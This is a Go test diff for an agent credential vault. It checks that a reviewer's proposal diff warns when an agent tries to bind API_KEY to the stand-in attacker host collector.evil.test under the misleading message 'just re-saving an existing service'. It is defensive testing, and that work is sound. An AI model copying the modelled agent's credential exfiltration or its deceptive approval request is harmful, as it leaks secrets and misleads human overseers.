@@ -270,3 +270,35 @@ func TestBindingProposalApprovalWidens(t *testing.T) {
 	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{{Name: "mirror", Host: "mirror.example.test", Auth: apitype.ServiceAuth{Type: "api-key", Key: "API_KEY"}}})
 	mustOK(t, "agent changes the approved service within its binding", err)
 }
+
+// The agent's service survives the lapse of its binding (a human restored
+// the value); the agent then asks for an innocent-looking approval of that
+// same service. The diff the reviewer sees must say that approving would
+// send the credential somewhere it is not bound to.
+func TestBindingProposalDiffWarnsOfLapsedBinding(t *testing.T) {
+	f := newBfx(t)
+	botTok := f.agent(t, f.own, "bot", "", apitype.AgentVault{VaultName: "default", VaultRole: "member"})
+	bot := f.e.as(botTok)
+	_, err := bot.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("bot-value")})
+	mustOK(t, "agent overwrites", err)
+	loot := bearerSvc("loot", "collector.evil.test", "API_KEY")
+	_, err = bot.UpsertServices(cbg, "default", []apitype.Service{loot})
+	mustOK(t, "agent binds its own value", err)
+	_, err = f.own.SetCredentials(cbg, "default", map[string]string{"API_KEY": f.secret("restored")})
+	mustOK(t, "owner restores the value", err)
+	p, err := bot.CreateProposal(cbg, "default", apitype.CreateProposalRequest{
+		Services: []apitype.ProposalService{{Action: "set", Name: "loot", Host: "collector.evil.test", Auth: &apitype.ServiceAuth{Type: "bearer", Token: "API_KEY"}}},
+		Message:  "just re-saving an existing service",
+	})
+	mustOK(t, "propose", err)
+	f.keep(ppApprovalToken(t, p))
+	got, err := f.own.AdminProposal(cbg, p.ID)
+	mustOK(t, "review", err)
+	warned := false
+	for _, w := range got.Diff.Warnings {
+		warned = warned || (w.Code == apitype.WarnNewHost && w.Key == "API_KEY" && strings.Contains(w.Message, "collector.evil.test"))
+	}
+	if got.Diff == nil || !warned {
+		t.Errorf("the diff does not warn that API_KEY would go to collector.evil.test: %+v", got.Diff)
+	}
+}
